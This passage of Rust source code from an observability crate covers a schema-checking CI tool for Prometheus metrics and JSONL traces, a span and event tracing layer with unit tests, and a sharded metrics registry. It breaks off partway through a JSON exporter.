}

/// Reset every registered metric to zero and discard all buffered trace
/// records. Test/bench helper: the registry is process-global, so
/// experiments that compare totals start from a clean slate.
pub fn reset() {
    registry().reset();
    let _ = drain();
}

/// Open a named RAII span: records on close when telemetry is enabled, and
/// always measures (the guard's `finish()` returns the elapsed
/// [`Duration`](std::time::Duration)).
#[macro_export]
macro_rules! span {
    ($name:expr) => {
        $crate::trace::SpanGuard::enter($name)
    };
}
