//! CI gate for telemetry output: validates a Prometheus-text metrics dump
//! and a JSONL trace against the checked-in schema
//! (`crates/telemetry/schema/telemetry.schema`).
//!
//! ```text
//! telemetry_check <schema> <metrics.prom> <trace.jsonl>
//! ```
//!
//! The schema is a line-oriented catalog: `metric <name>`, `span <name>`,
//! `event <name>` declare names that MUST appear in the corresponding
//! output; a `?` suffix on the kind (`metric?`, `span?`, `event?`) declares
//! a name that MAY appear (e.g. degraded-resume events). Any name that
//! shows up in an output but is not declared at all fails the check — new
//! instrumentation must be added to the catalog, which is how the schema
//! and OBSERVABILITY.md stay honest.
//!
//! Like `bench_check`, this is std-only with hand-rolled parsers: the
//! exposition formats are deliberately flat.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::process::ExitCode;

#[derive(Default)]
struct Schema {
    /// kind -> (required names, optional names)
    kinds: BTreeMap<&'static str, (BTreeSet<String>, BTreeSet<String>)>,
}

impl Schema {
    fn parse(text: &str, errors: &mut Vec<String>) -> Schema {
        let mut schema = Schema::default();
        for (lineno, raw) in text.lines().enumerate() {
            let line = raw.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let mut parts = line.split_whitespace();
            let (kind, name) = match (parts.next(), parts.next(), parts.next()) {
                (Some(kind), Some(name), None) => (kind, name),
                _ => {
                    errors.push(format!(
                        "schema line {}: expected `<kind> <name>`, got {raw:?}",
                        lineno + 1
                    ));
                    continue;
                }
            };
            let (kind, optional) = match kind.strip_suffix('?') {
                Some(base) => (base, true),
                None => (kind, false),
            };
            let kind = match kind {
                "metric" => "metric",
                "span" => "span",
                "event" => "event",
                other => {
                    errors.push(format!(
                        "schema line {}: unknown kind {other:?}",
                        lineno + 1
                    ));
                    continue;
                }
            };
            let slot = schema.kinds.entry(kind).or_default();
            if optional {
                slot.1.insert(name.to_string());
            } else {
                slot.0.insert(name.to_string());
            }
        }
        schema
    }

    fn check(&self, kind: &str, observed: &BTreeSet<String>, errors: &mut Vec<String>) {
        let (required, optional) = self.kinds.get(kind).cloned().unwrap_or_default();
        for name in &required {
            if !observed.contains(name) {
                errors.push(format!("missing required {kind} {name:?}"));
            }
        }
        for name in observed {
            if !required.contains(name) && !optional.contains(name) {
                errors.push(format!(
                    "undeclared {kind} {name:?} (add it to the schema catalog)"
                ));
            }
        }
    }
}

/// Parse Prometheus text exposition: family names from `# TYPE` lines,
/// sample lines validated as `name[{labels}] value`.
fn parse_metrics(text: &str, errors: &mut Vec<String>) -> BTreeSet<String> {
    let mut families = BTreeSet::new();
    let mut typed: BTreeSet<String> = BTreeSet::new();
    for (lineno, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() {
            continue;
        }
        if let Some(rest) = line.strip_prefix("# TYPE ") {
            let mut parts = rest.split_whitespace();
            match (parts.next(), parts.next(), parts.next()) {
                (Some(name), Some("counter" | "gauge" | "histogram"), None) => {
                    families.insert(name.to_string());
                    typed.insert(name.to_string());
                }
                _ => errors.push(format!(
                    "metrics line {}: malformed TYPE line {raw:?}",
                    lineno + 1
                )),
            }
            continue;
        }
        if line.starts_with('#') {
            continue;
        }
        // Sample line: `name{labels} value` or `name value`.
        let name_end = line
            .find(|c: char| c == '{' || c.is_whitespace())
            .unwrap_or(line.len());
        let name = &line[..name_end];
        let value = line
            .rsplit(|c: char| c.is_whitespace())
            .next()
            .unwrap_or("");
        if name.is_empty() || value.parse::<f64>().is_err() {
            errors.push(format!(
                "metrics line {}: malformed sample {raw:?}",
                lineno + 1
            ));
            continue;
        }
        // Histogram samples expose `<family>_bucket/_sum/_count`; fold them
        // back onto the family name for catalog matching.
        let family = name
            .strip_suffix("_bucket")
            .or_else(|| name.strip_suffix("_sum"))
            .or_else(|| name.strip_suffix("_count"))
            .filter(|base| typed.contains(*base))
            .unwrap_or(name);
        if !typed.contains(family) {
            errors.push(format!(
                "metrics line {}: sample {name:?} has no preceding TYPE line",
                lineno + 1
            ));
        }
        families.insert(family.to_string());
    }
    families
}

/// Extract the value of a `"key":"…"` string field from a flat JSON line.
fn json_str_field(line: &str, key: &str) -> Option<String> {
    let pat = format!("\"{key}\":\"");
    let start = line.find(&pat)? + pat.len();
    let rest = &line[start..];
    let mut out = String::new();
    let mut chars = rest.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => return Some(out),
            '\\' => {
                chars.next();
                out.push('_'); // escaped char, content irrelevant here
            }
            c => out.push(c),
        }
    }
    None
}

fn json_has_num_field(line: &str, key: &str) -> bool {
    let pat = format!("\"{key}\":");
    match line.find(&pat) {
        Some(idx) => line[idx + pat.len()..]
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_digit() || c == '-'),
        None => false,
    }
}

/// Parse the JSONL trace: returns (span names, event names).
fn parse_trace(text: &str, errors: &mut Vec<String>) -> (BTreeSet<String>, BTreeSet<String>) {
    let mut spans = BTreeSet::new();
    let mut events = BTreeSet::new();
    for (lineno, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() {
            continue;
        }
        if !line.starts_with('{') || !line.ends_with('}') {
            errors.push(format!(
                "trace line {}: not a JSON object: {raw:?}",
                lineno + 1
            ));
            continue;
        }
        let kind = json_str_field(line, "type");
        let name = json_str_field(line, "name");
        let (Some(kind), Some(name)) = (kind, name) else {
            errors.push(format!(
                "trace line {}: missing \"type\"/\"name\": {raw:?}",
                lineno + 1
            ));
            continue;
        };
        let required_nums: &[&str] = match kind.as_str() {
            "span" => &["thread", "depth", "start_us", "dur_us"],
            "event" => &["thread", "depth", "at_us"],
            other => {
                errors.push(format!(
                    "trace line {}: unknown record type {other:?}",
                    lineno + 1
                ));
                continue;
            }
        };
        for field in required_nums {
            if !json_has_num_field(line, field) {
                errors.push(format!(
                    "trace line {}: {kind} record missing numeric {field:?}",
                    lineno + 1
                ));
            }
        }
        if kind == "event" && json_str_field(line, "message").is_none() {
            errors.push(format!(
                "trace line {}: event record missing \"message\"",
                lineno + 1
            ));
        }
        if kind == "span" {
            spans.insert(name);
        } else {
            events.insert(name);
        }
    }
    (spans, events)
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [schema_path, metrics_path, trace_path] = match args.as_slice() {
        [a, b, c] => [a, b, c],
        _ => {
            eprintln!("usage: telemetry_check <schema> <metrics.prom> <trace.jsonl>");
            return ExitCode::from(2);
        }
    };

    let mut errors = Vec::new();
    let read = |path: &str, errors: &mut Vec<String>| match fs::read_to_string(path) {
        Ok(text) => text,
        Err(err) => {
            errors.push(format!("cannot read {path}: {err}"));
            String::new()
        }
    };
    let schema_text = read(schema_path, &mut errors);
    let metrics_text = read(metrics_path, &mut errors);
    let trace_text = read(trace_path, &mut errors);

    let schema = Schema::parse(&schema_text, &mut errors);
    let metrics = parse_metrics(&metrics_text, &mut errors);
    let (spans, events) = parse_trace(&trace_text, &mut errors);

    schema.check("metric", &metrics, &mut errors);
    schema.check("span", &spans, &mut errors);
    schema.check("event", &events, &mut errors);

    if errors.is_empty() {
        println!(
            "telemetry_check OK: {} metric families, {} span names, {} event names",
            metrics.len(),
            spans.len(),
            events.len()
        );
        ExitCode::SUCCESS
    } else {
        for err in &errors {
            eprintln!("telemetry_check: {err}");
        }
        eprintln!("telemetry_check FAILED: {} error(s)", errors.len());
        ExitCode::FAILURE
    }
}
