//! The span/tracing layer: RAII [`SpanGuard`]s and point [`event`]s feed
//! per-thread buffers that flush into a bounded global collector; the
//! collected [`Record`]s render as a per-day phase tree ([`render_tree`])
//! or a machine-readable JSONL log ([`render_jsonl`]).
//!
//! Guards *always* measure — [`SpanGuard::finish`] returns the elapsed
//! [`Duration`] whether or not telemetry is enabled, so the public stats
//! structs in `kizzle-cluster`/`kizzle-core` stay populated as views over
//! the same clock reads — but records are only buffered when the global
//! flag was set at span entry.

use std::cell::{Cell, RefCell};
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, Instant};

/// Per-thread buffers flush into the global collector once they hold this
/// many records (and always on depth-0 span close and thread exit).
const FLUSH_EVERY: usize = 64;

/// The global collector stops accepting records past this many, bumping
/// `kizzle_trace_dropped_total` instead — a runaway trace must not turn
/// into unbounded memory growth inside the pipeline.
const COLLECTOR_CAP: usize = 1 << 20;

/// One span or event, as flushed to the global collector.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Record {
    /// A closed span: `start_us`/`dur_us` are microseconds relative to the
    /// process-global trace epoch (first telemetry use).
    Span {
        /// Static span name, e.g. `day.cluster`.
        name: &'static str,
        /// Arbitrary dense id of the recording thread.
        thread: u64,
        /// Nesting depth at entry (0 = top level on that thread).
        depth: u32,
        /// Span start, µs since the trace epoch.
        start_us: u64,
        /// Span duration, µs.
        dur_us: u64,
    },
    /// A point event with a free-form message.
    Event {
        /// Static event name, e.g. `engine.resume.note`.
        name: &'static str,
        /// Arbitrary dense id of the recording thread.
        thread: u64,
        /// Nesting depth at emission.
        depth: u32,
        /// Emission time, µs since the trace epoch.
        at_us: u64,
        /// Free-form message (JSON-escaped on export).
        message: String,
    },
}

impl Record {
    /// The span or event name.
    #[must_use]
    pub fn name(&self) -> &'static str {
        match self {
            Record::Span { name, .. } | Record::Event { name, .. } => name,
        }
    }

    /// The recording thread's id.
    #[must_use]
    pub fn thread(&self) -> u64 {
        match self {
            Record::Span { thread, .. } | Record::Event { thread, .. } => *thread,
        }
    }

    /// Nesting depth at entry/emission.
    #[must_use]
    pub fn depth(&self) -> u32 {
        match self {
            Record::Span { depth, .. } | Record::Event { depth, .. } => *depth,
        }
    }

    /// Start (spans) or emission (events) time, µs since the trace epoch.
    #[must_use]
    pub fn at_us(&self) -> u64 {
        match self {
            Record::Span { start_us, .. } => *start_us,
            Record::Event { at_us, .. } => *at_us,
        }
    }
}

static EPOCH: OnceLock<Instant> = OnceLock::new();

fn epoch() -> Instant {
    *EPOCH.get_or_init(Instant::now)
}

fn now_us() -> u64 {
    u64::try_from(epoch().elapsed().as_micros()).unwrap_or(u64::MAX)
}

static NEXT_THREAD_ID: AtomicU64 = AtomicU64::new(0);

#[derive(Default)]
struct Collector {
    records: Mutex<Vec<Record>>,
}

static COLLECTOR: OnceLock<Collector> = OnceLock::new();

fn collector() -> &'static Collector {
    COLLECTOR.get_or_init(Collector::default)
}

struct ThreadBuffer {
    id: u64,
    records: Vec<Record>,
}

impl ThreadBuffer {
    fn new() -> Self {
        ThreadBuffer {
            id: NEXT_THREAD_ID.fetch_add(1, Ordering::Relaxed),
            records: Vec::new(),
        }
    }

    fn flush(&mut self) {
        if self.records.is_empty() {
            return;
        }
        if let Some(recorder) = crate::recorder() {
            for record in &self.records {
                recorder.record(record);
            }
        }
        let mut global = collector().records.lock().expect("trace collector lock");
        let room = COLLECTOR_CAP.saturating_sub(global.len());
        let take = room.min(self.records.len());
        let dropped = self.records.len() - take;
        global.extend(self.records.drain(..take));
        drop(global);
        self.records.clear();
        if dropped > 0 {
            crate::counter("kizzle_trace_dropped_total").add(dropped as u64);
        }
    }
}

impl Drop for ThreadBuffer {
    fn drop(&mut self) {
        self.flush();
    }
}

thread_local! {
    static BUFFER: RefCell<ThreadBuffer> = RefCell::new(ThreadBuffer::new());
    static DEPTH: Cell<u32> = const { Cell::new(0) };
}

fn push(record: Record, at_depth_zero: bool) {
    BUFFER.with(|buffer| {
        // `borrow_mut` can only contend with itself via a re-entrant
        // Recorder that emits events; skip the record rather than panic.
        if let Ok(mut buffer) = buffer.try_borrow_mut() {
            buffer.records.push(record);
            if at_depth_zero || buffer.records.len() >= FLUSH_EVERY {
                buffer.flush();
            }
        }
    });
}

fn thread_id() -> u64 {
    BUFFER.with(|buffer| match buffer.try_borrow() {
        Ok(buffer) => buffer.id,
        Err(_) => u64::MAX,
    })
}

/// An open span. Created by [`enter`](SpanGuard::enter) (usually through
/// the [`span!`](crate::span) macro); the span closes — and, when telemetry
/// was enabled at entry, records — on [`finish`](SpanGuard::finish) or
/// drop, whichever comes first.
#[derive(Debug)]
#[must_use = "a span closes when the guard drops; bind it with `let _guard = …`"]
pub struct SpanGuard {
    name: &'static str,
    start: Instant,
    start_us: u64,
    depth: u32,
    /// Whether telemetry was enabled when the span opened; sampled once so
    /// an enable/disable mid-span cannot half-record.
    record: bool,
    closed: bool,
}

impl SpanGuard {
    /// Open a span. Always captures the clock; records only if telemetry
    /// is enabled right now.
    pub fn enter(name: &'static str) -> Self {
        let record = crate::enabled();
        let (start_us, depth) = if record {
            let depth = DEPTH.with(|d| {
                let depth = d.get();
                d.set(depth + 1);
                depth
            });
            (now_us(), depth)
        } else {
            (0, 0)
        };
        SpanGuard {
            name,
            start: Instant::now(),
            start_us,
            depth,
            record,
            closed: false,
        }
    }

    /// Close the span and return its measured duration. Idempotent with
    /// drop: the record (if any) is emitted exactly once.
    pub fn finish(mut self) -> Duration {
        self.close()
    }

    fn close(&mut self) -> Duration {
        let elapsed = self.start.elapsed();
        if !self.closed {
            self.closed = true;
            if self.record {
                DEPTH.with(|d| d.set(d.get().saturating_sub(1)));
                push(
                    Record::Span {
                        name: self.name,
                        thread: thread_id(),
                        depth: self.depth,
                        start_us: self.start_us,
                        dur_us: u64::try_from(elapsed.as_micros()).unwrap_or(u64::MAX),
                    },
                    self.depth == 0,
                );
            }
        }
        elapsed
    }
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        self.close();
    }
}

/// Record an already-measured span duration under `name`.
///
/// For measurements that cannot be an RAII guard: durations that cross a
/// thread boundary (the cluster map phase starts on the ingest worker and
/// closes on the seal thread) or are accumulated across a loop (per-day
/// winnow/siggen totals). Recorded at the current thread's depth, as a
/// span that *ends* now.
pub fn record_span(name: &'static str, duration: Duration) {
    if !crate::enabled() {
        return;
    }
    let dur_us = u64::try_from(duration.as_micros()).unwrap_or(u64::MAX);
    let depth = DEPTH.with(Cell::get);
    push(
        Record::Span {
            name,
            thread: thread_id(),
            depth,
            start_us: now_us().saturating_sub(dur_us),
            dur_us,
        },
        depth == 0,
    );
}

/// Emit a point event with a free-form message (e.g. a snapshot resume
/// fallback note). No-op when telemetry is disabled.
pub fn event(name: &'static str, message: impl Into<String>) {
    if !crate::enabled() {
        return;
    }
    let depth = DEPTH.with(Cell::get);
    push(
        Record::Event {
            name,
            thread: thread_id(),
            depth,
            at_us: now_us(),
            message: message.into(),
        },
        depth == 0,
    );
}

/// Flush the calling thread's buffer and take every record collected so
/// far, in flush order. The collector is left empty.
///
/// Only the calling thread's buffer can be force-flushed; other threads
/// flush at their next depth-0 span close, every 64 records, and on
/// thread exit — so drain after joining workers to see everything.
pub fn drain() -> Vec<Record> {
    BUFFER.with(|buffer| {
        if let Ok(mut buffer) = buffer.try_borrow_mut() {
            buffer.flush();
        }
    });
    std::mem::take(&mut *collector().records.lock().expect("trace collector lock"))
}

fn escape_json(s: &str, out: &mut String) {
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

/// Render records as JSONL, one object per line:
///
/// ```text
/// {"type":"span","name":"day.cluster","thread":0,"depth":1,"start_us":12,"dur_us":3400}
/// {"type":"event","name":"engine.resume.note","thread":0,"depth":1,"at_us":9,"message":"…"}
/// ```
#[must_use]
pub fn render_jsonl(records: &[Record]) -> String {
    let mut out = String::new();
    for record in records {
        match record {
            Record::Span {
                name,
                thread,
                depth,
                start_us,
                dur_us,
            } => {
                let _ = writeln!(
                    out,
                    "{{\"type\":\"span\",\"name\":\"{name}\",\"thread\":{thread},\
                     \"depth\":{depth},\"start_us\":{start_us},\"dur_us\":{dur_us}}}"
                );
            }
            Record::Event {
                name,
                thread,
                depth,
                at_us,
                message,
            } => {
                let _ = write!(
                    out,
                    "{{\"type\":\"event\",\"name\":\"{name}\",\"thread\":{thread},\
                     \"depth\":{depth},\"at_us\":{at_us},\"message\":\""
                );
                escape_json(message, &mut out);
                out.push_str("\"}\n");
            }
        }
    }
    out
}

/// Render records as an indented phase tree, ordered by start time within
/// each thread — the human-readable view `daily_pipeline` prints to stderr:
///
/// ```text
/// thread 0
///   day.seal 41.2ms
///     day.cluster 32.9ms
///     day.winnow 2.1ms
/// ```
#[must_use]
pub fn render_tree(records: &[Record]) -> String {
    let mut threads: Vec<u64> = records.iter().map(Record::thread).collect();
    threads.sort_unstable();
    threads.dedup();

    let mut out = String::new();
    for thread in threads {
        let mut rows: Vec<&Record> = records.iter().filter(|r| r.thread() == thread).collect();
        rows.sort_by_key(|r| r.at_us());
        let _ = writeln!(out, "thread {thread}");
        for record in rows {
            for _ in 0..=record.depth() {
                out.push_str("  ");
            }
            match record {
                Record::Span { name, dur_us, .. } => {
                    let _ = writeln!(out, "{name} {}", format_us(*dur_us));
                }
                Record::Event { name, message, .. } => {
                    let _ = writeln!(out, "* {name}: {message}");
                }
            }
        }
    }
    out
}

fn format_us(us: u64) -> String {
    if us >= 1_000_000 {
        format!("{:.2}s", us as f64 / 1e6)
    } else if us >= 1_000 {
        format!("{:.1}ms", us as f64 / 1e3)
    } else {
        format!("{us}\u{b5}s")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // These tests flip the process-global enable flag, so they share one
    // lock to avoid interleaving (the unit-test binary runs them in
    // threads).
    static GATE: Mutex<()> = Mutex::new(());

    fn with_telemetry<R>(f: impl FnOnce() -> R) -> R {
        let _gate = GATE.lock().unwrap_or_else(|e| e.into_inner());
        crate::set_enabled(true);
        let _ = drain();
        let out = f();
        crate::set_enabled(false);
        out
    }

    #[test]
    fn spans_nest_and_record_depth() {
        let records = with_telemetry(|| {
            let outer = SpanGuard::enter("test.outer");
            {
                let _inner = SpanGuard::enter("test.inner");
            }
            outer.finish();
            drain()
        });
        let find = |name: &str| {
            records
                .iter()
                .find(|r| r.name() == name)
                .unwrap_or_else(|| panic!("missing {name}"))
                .clone()
        };
        // Inner closes first, so it precedes outer in flush order.
        assert_eq!(find("test.inner").depth(), 1);
        assert_eq!(find("test.outer").depth(), 0);
    }

    #[test]
    fn disabled_spans_measure_but_do_not_record() {
        let _gate = GATE.lock().unwrap_or_else(|e| e.into_inner());
        crate::set_enabled(false);
        let _ = drain();
        let guard = SpanGuard::enter("test.disabled");
        std::thread::sleep(Duration::from_millis(1));
        let elapsed = guard.finish();
        assert!(elapsed >= Duration::from_millis(1));
        assert!(drain().is_empty());
    }

    #[test]
    fn finish_then_drop_records_once() {
        let records = with_telemetry(|| {
            let guard = SpanGuard::enter("test.once");
            let _ = guard.finish();
            drain()
        });
        assert_eq!(
            records.iter().filter(|r| r.name() == "test.once").count(),
            1
        );
    }

    #[test]
    fn events_carry_messages_and_jsonl_escapes() {
        let records = with_telemetry(|| {
            event("test.event", "line1\nline2 \"quoted\"");
            drain()
        });
        let jsonl = render_jsonl(&records);
        assert!(jsonl.contains("\"type\":\"event\""));
        assert!(jsonl.contains("line1\\nline2 \\\"quoted\\\""));
    }

    #[test]
    fn cross_thread_records_arrive_after_join() {
        let records = with_telemetry(|| {
            std::thread::spawn(|| {
                let _span = SpanGuard::enter("test.worker");
            })
            .join()
            .expect("worker thread");
            drain()
        });
        assert!(records.iter().any(|r| r.name() == "test.worker"));
    }

    #[test]
    fn record_span_emits_explicit_duration() {
        let records = with_telemetry(|| {
            record_span("test.explicit", Duration::from_micros(1500));
            drain()
        });
        let rec = records
            .iter()
            .find(|r| r.name() == "test.explicit")
            .expect("explicit span");
        match rec {
            Record::Span { dur_us, .. } => assert_eq!(*dur_us, 1500),
            Record::Event { .. } => panic!("expected a span"),
        }
    }

    #[test]
    fn tree_renders_nested_spans() {
        let records = with_telemetry(|| {
            let outer = SpanGuard::enter("test.tree.outer");
            {
                let _inner = SpanGuard::enter("test.tree.inner");
                std::thread::sleep(Duration::from_micros(100));
            }
            outer.finish();
            drain()
        });
        let tree = render_tree(&records);
        assert!(tree.contains("test.tree.outer"));
        assert!(tree.contains("    test.tree.inner"));
    }
}
