//! The metrics registry: named counters, gauges and histograms over
//! sharded relaxed atomics, with Prometheus-text and JSON exposition.
//!
//! Handles are `&'static` — a metric is registered once (leaked, like the
//! real `prometheus` crate's default registry) and looked up by name; hot
//! paths cache the handle in a `OnceLock` at the use site so the registry
//! map is touched once per process, not per event.

use std::cell::Cell;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{OnceLock, RwLock};
use std::time::Duration;

/// Number of padded atomic cells per counter. Eight covers the worker,
/// seal, and a handful of scan threads without false sharing; more threads
/// than shards just share cells (still correct, relaxed adds commute).
pub const SHARDS: usize = 8;

/// One cache-line-padded atomic cell, so two shards never share a line.
#[repr(align(64))]
#[derive(Debug, Default)]
struct PaddedCell(AtomicU64);

static NEXT_SHARD: AtomicUsize = AtomicUsize::new(0);

thread_local! {
    /// Per-thread shard index, assigned round-robin on first use.
    static SHARD: Cell<usize> = const { Cell::new(usize::MAX) };
}

fn shard() -> usize {
    SHARD.with(|cell| {
        let mut s = cell.get();
        if s == usize::MAX {
            s = NEXT_SHARD.fetch_add(1, Ordering::Relaxed) % SHARDS;
            cell.set(s);
        }
        s
    })
}

/// A monotone counter, sharded over [`SHARDS`] relaxed atomics.
#[derive(Debug)]
pub struct Counter {
    name: &'static str,
    cells: [PaddedCell; SHARDS],
}

impl Counter {
    fn new(name: &'static str) -> Self {
        Counter {
            name,
            cells: Default::default(),
        }
    }

    /// The registered metric name.
    #[must_use]
    pub fn name(&self) -> &'static str {
        self.name
    }

    /// Add `n` to the counter (no-op when `n == 0`, so callers can feed
    /// deltas unconditionally).
    #[inline]
    pub fn add(&self, n: u64) {
        if n != 0 {
            self.cells[shard()].0.fetch_add(n, Ordering::Relaxed);
        }
    }

    /// Add one.
    #[inline]
    pub fn incr(&self) {
        self.add(1);
    }

    /// Current total across all shards.
    #[must_use]
    pub fn value(&self) -> u64 {
        self.cells.iter().map(|c| c.0.load(Ordering::Relaxed)).sum()
    }

    fn reset(&self) {
        for cell in &self.cells {
            cell.0.store(0, Ordering::Relaxed);
        }
    }
}

/// A last-value (or high-water-mark) gauge.
#[derive(Debug)]
pub struct Gauge {
    name: &'static str,
    value: AtomicU64,
}

impl Gauge {
    fn new(name: &'static str) -> Self {
        Gauge {
            name,
            value: AtomicU64::new(0),
        }
    }

    /// The registered metric name.
    #[must_use]
    pub fn name(&self) -> &'static str {
        self.name
    }

    /// Set the gauge.
    #[inline]
    pub fn set(&self, value: u64) {
        self.value.store(value, Ordering::Relaxed);
    }

    /// Raise the gauge to `value` if it is higher (high-water-mark use,
    /// e.g. the pipeline's max queue depth).
    #[inline]
    pub fn set_max(&self, value: u64) {
        self.value.fetch_max(value, Ordering::Relaxed);
    }

    /// Current value.
    #[must_use]
    pub fn value(&self) -> u64 {
        self.value.load(Ordering::Relaxed)
    }

    fn reset(&self) {
        self.value.store(0, Ordering::Relaxed);
    }
}

/// Upper bounds (inclusive, in the observed unit — nanoseconds for the
/// duration histograms) of the fixed decade buckets; an implicit `+Inf`
/// bucket follows.
pub const HISTOGRAM_BOUNDS: [u64; 9] = [
    1_000,           // 1 µs
    10_000,          // 10 µs
    100_000,         // 100 µs
    1_000_000,       // 1 ms
    10_000_000,      // 10 ms
    100_000_000,     // 100 ms
    1_000_000_000,   // 1 s
    10_000_000_000,  // 10 s
    100_000_000_000, // 100 s
];

/// A fixed-bucket (decades) histogram with Prometheus cumulative-bucket
/// exposition. Observations are `u64` in whatever unit the name declares
/// (the workspace convention is `_ns` suffixes observing nanoseconds).
#[derive(Debug)]
pub struct Histogram {
    name: &'static str,
    buckets: [AtomicU64; HISTOGRAM_BOUNDS.len() + 1],
    sum: AtomicU64,
    count: AtomicU64,
}

impl Histogram {
    fn new(name: &'static str) -> Self {
        Histogram {
            name,
            buckets: Default::default(),
            sum: AtomicU64::new(0),
            count: AtomicU64::new(0),
        }
    }

    /// The registered metric name.
    #[must_use]
    pub fn name(&self) -> &'static str {
        self.name
    }

    /// Record one observation.
    pub fn observe(&self, value: u64) {
        let bucket = HISTOGRAM_BOUNDS
            .iter()
            .position(|&bound| value <= bound)
            .unwrap_or(HISTOGRAM_BOUNDS.len());
        self.buckets[bucket].fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(value, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
    }

    /// Record a duration, in nanoseconds.
    pub fn observe_duration(&self, duration: Duration) {
        self.observe(u64::try_from(duration.as_nanos()).unwrap_or(u64::MAX));
    }

    /// Number of observations.
    #[must_use]
    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    /// Sum of all observed values.
    #[must_use]
    pub fn sum(&self) -> u64 {
        self.sum.load(Ordering::Relaxed)
    }

    /// Per-bucket observation counts (non-cumulative), `+Inf` last.
    #[must_use]
    pub fn bucket_counts(&self) -> Vec<u64> {
        self.buckets
            .iter()
            .map(|b| b.load(Ordering::Relaxed))
            .collect()
    }

    fn reset(&self) {
        for bucket in &self.buckets {
            bucket.store(0, Ordering::Relaxed);
        }
        self.sum.store(0, Ordering::Relaxed);
        self.count.store(0, Ordering::Relaxed);
    }
}

/// The process-global metric registry: name → leaked `&'static` handle.
///
/// Lookup takes the `RwLock` read side; registration (first lookup of a
/// name) takes the write side once. Hot paths avoid both by caching the
/// returned handle in a `OnceLock` at the use site.
#[derive(Debug, Default)]
pub struct Registry {
    counters: RwLock<BTreeMap<&'static str, &'static Counter>>,
    gauges: RwLock<BTreeMap<&'static str, &'static Gauge>>,
    histograms: RwLock<BTreeMap<&'static str, &'static Histogram>>,
}

static REGISTRY: OnceLock<Registry> = OnceLock::new();

/// The process-global [`Registry`].
#[must_use]
pub fn registry() -> &'static Registry {
    REGISTRY.get_or_init(Registry::default)
}

/// Look up (or register) the named counter in the global registry.
#[must_use]
pub fn counter(name: &'static str) -> &'static Counter {
    registry().counter(name)
}

/// Look up (or register) the named gauge in the global registry.
#[must_use]
pub fn gauge(name: &'static str) -> &'static Gauge {
    registry().gauge(name)
}

/// Look up (or register) the named histogram in the global registry.
#[must_use]
pub fn histogram(name: &'static str) -> &'static Histogram {
    registry().histogram(name)
}

macro_rules! lookup_or_register {
    ($map:expr, $name:expr, $ty:ident) => {{
        if let Some(existing) = $map.read().expect("metric registry lock").get($name) {
            return existing;
        }
        let mut map = $map.write().expect("metric registry lock");
        map.entry($name)
            .or_insert_with(|| Box::leak(Box::new($ty::new($name))))
    }};
}

impl Registry {
    /// Look up (or register) the named counter.
    pub fn counter(&self, name: &'static str) -> &'static Counter {
        lookup_or_register!(self.counters, name, Counter)
    }

    /// Look up (or register) the named gauge.
    pub fn gauge(&self, name: &'static str) -> &'static Gauge {
        lookup_or_register!(self.gauges, name, Gauge)
    }

    /// Look up (or register) the named histogram.
    pub fn histogram(&self, name: &'static str) -> &'static Histogram {
        lookup_or_register!(self.histograms, name, Histogram)
    }

    fn snapshot(
        &self,
    ) -> (
        Vec<&'static Counter>,
        Vec<&'static Gauge>,
        Vec<&'static Histogram>,
    ) {
        (
            self.counters
                .read()
                .expect("metric registry lock")
                .values()
                .copied()
                .collect(),
            self.gauges
                .read()
                .expect("metric registry lock")
                .values()
                .copied()
                .collect(),
            self.histograms
                .read()
                .expect("metric registry lock")
                .values()
                .copied()
                .collect(),
        )
    }

    /// Reset every registered metric to zero. Registered names stay
    /// registered (handles are `&'static`).
    pub fn reset(&self) {
        let (counters, gauges, histograms) = self.snapshot();
        for c in counters {
            c.reset();
        }
        for g in gauges {
            g.reset();
        }
        for h in histograms {
            h.reset();
        }
    }

    /// Prometheus text exposition (version 0.0.4): `# TYPE` lines followed
    /// by samples, families sorted by name, histograms with cumulative
    /// `_bucket{le=…}` samples plus `_sum`/`_count`.
    #[must_use]
    pub fn render_prometheus(&self) -> String {
        let (counters, gauges, histograms) = self.snapshot();
        let mut out = String::new();
        for c in counters {
            let _ = writeln!(out, "# TYPE {} counter", c.name());
            let _ = writeln!(out, "{} {}", c.name(), c.value());
        }
        for g in gauges {
            let _ = writeln!(out, "# TYPE {} gauge", g.name());
            let _ = writeln!(out, "{} {}", g.name(), g.value());
        }
        for h in histograms {
            let _ = writeln!(out, "# TYPE {} histogram", h.name());
            let mut cumulative = 0u64;
            for (bucket, bound) in h.bucket_counts().iter().zip(
                HISTOGRAM_BOUNDS
                    .iter()
                    .map(|b| b.to_string())
                    .chain(std::iter::once("+Inf".to_string())),
            ) {
                cumulative += bucket;
                let _ = writeln!(out, "{}_bucket{{le=\"{bound}\"}} {cumulative}", h.name());
            }
            let _ = writeln!(out, "{}_sum {}", h.name(), h.sum());
            let _ = writeln!(out, "{}_count {}", h.name(), h.count());
        }
        out
    }

    /// JSON dump of every registered metric:
    /// `{"counters":{…},"gauges":{…},"histograms":{name:{"count":…,"sum":…,"buckets":[…]}}}`.
    #[must_use]
    pub fn render_json(&self) -> String {
        let (counters, gauges, histograms) = self.snapshot();
        let mut out = String::from("{\"counters\":{");
        for (i, c) in counters.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(out, "\"{}\":{}", c.name(), c.value());
        }
        out.push_str("},\"gauges\":{");
